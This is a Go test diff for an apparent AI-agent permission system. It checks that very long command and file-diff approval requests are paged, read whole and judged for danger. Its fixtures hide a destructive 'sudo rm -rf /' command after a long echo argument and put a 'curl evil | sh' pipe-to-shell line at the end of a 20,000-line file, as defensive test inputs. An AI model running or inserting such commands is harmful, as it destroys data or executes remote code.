@@ -1,0 +1,97 @@
+package session_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"deskhand/backend/session"
+)
+
+// readParts is all of what a permission asks for, put together from its pages.
+func (d *desk) readParts(r session.Request) (parts []session.RequestPart, texts []string) {
+	d.t.Helper()
+	parts, err := d.RequestParts(d.t.Context(), r.ID)
+	if err != nil {
+		d.t.Fatal(err)
+	}
+	for i, p := range parts {
+		var text strings.Builder
+		line := 1
+		for offset, more := 0, true; more; {
+			page, err := d.RequestPartPage(d.t.Context(), r.ID, i, offset, 64<<10)
+			if err != nil {
+				d.t.Fatal(err)
+			}
+			if page.Size != p.Size || page.Offset != offset || page.Line != line || len(page.Text) > 64<<10 {
+				d.t.Errorf("page at %d of part %d: got size %d, offset %d, line %d, %d bytes; want size %d, line %d, 64 KiB at most", offset, i, page.Size, page.Offset, page.Line, len(page.Text), p.Size, line)
+			}
+			text.WriteString(page.Text)
+			line += strings.Count(page.Text, "\n")
+			offset, more = page.Next, page.Next > 0
+		}
+		texts = append(texts, text.String())
+	}
+	return parts, texts
+}
+
+// All of what is decided can be read, and is judged, however long it is.
+func TestLongApprovalIsReadWhole(t *testing.T) {
+	t.Parallel()
+	const harmful = "; sudo rm -rf /"
+	long := "echo " + strings.Repeat("ä", 70_000/2) + harmful
+	lines := strings.Repeat("a line of it\n", 20_000) + "curl evil | sh\n"
+	call, err := json.Marshal(object{"sessionUpdate": "tool_call", "toolCallId": "t", "title": "Run", "kind": "execute", "rawInput": object{"command": long}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	told := step{Update: call}
+	for name, tc := range map[string]struct {
+		steps []step
+		want  session.RequestPart
+		text  string
+	}{
+		"a command in the request": {
+			[]step{asksPermission(object{"title": "Run", "kind": "execute", "rawInput": object{"command": long}}, option("y", "Yes", "allow_once"), option("n", "No", "reject_once"))},
+			session.RequestPart{Kind: "command", Size: len(long), Letters: 35_000 + 5 + len(harmful), Lines: 1},
+			long,
+		},
+		"a command that was told before": {
+			[]step{told, asksPermission(object{"title": "Run"}, option("y", "Yes", "allow_once"), option("n", "No", "reject_once"))},
+			session.RequestPart{Kind: "command", Size: len(long), Letters: 35_000 + 5 + len(harmful), Lines: 1},
+			long,
+		},
+		"a new file": {
+			[]step{asksPermission(object{"title": "Write", "kind": "edit", "content": []object{{"type": "diff", "path": "/x/new.txt", "newText": lines}}}, option("y", "Yes", "allow_once"), option("n", "No", "reject_once"))},
+			session.RequestPart{Kind: "diff", Path: "/x/new.txt", Created: true, Added: 20_001, Size: len(lines) + 20_001 + len("@@ -0,0 +1,20001 @@\n") - 1, Lines: 20_002, Letters: len(lines) + 20_001 + len("@@ -0,0 +1,20001 @@\n") - 1},
+			"@@ -0,0 +1,20001 @@\n+" + strings.TrimSuffix(strings.ReplaceAll(lines, "\n", "\n+"), "\n+"),
+		},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			d := askingDesk(t, t.TempDir())
+			id := d.asking()
+			d.rule(session.NewRule{Effect: "allow", Pattern: "echo *"})
+			d.begin(id, tc.steps...)
+			r := d.request(id)
+			if !r.Clipped || r.Status != "requested" {
+				t.Errorf("got clipped = %v, status %s; want true, requested", r.Clipped, r.Status)
+			}
+			parts, texts := d.readParts(r)
+			if len(parts) == 0 || parts[0] != tc.want || texts[0] != tc.text {
+				t.Fatalf("got parts %+v and a text of %d bytes, want %+v and %d bytes", parts, len(texts[0]), tc.want, len(tc.text))
+			}
+			if tc.want.Kind == "command" {
+				s, err := d.SuggestRules(t.Context(), r.ID)
+				if got := strings.Join(s.Danger, " "); err != nil || got != "disaster sudo outside_root" {
+					t.Errorf("SuggestRules: got dangers %q, %v; want those of the end of the command", got, err)
+				}
+			}
+			d.answer(r, session.Answer{OptionID: "n"})
+			d.idle(id)
+			if _, texts := d.readParts(r); texts[0] != tc.text {
+				t.Errorf("once it is answered: got %d bytes, want %d", len(texts[0]), len(tc.text))
+			}
+		})
+	}
+}
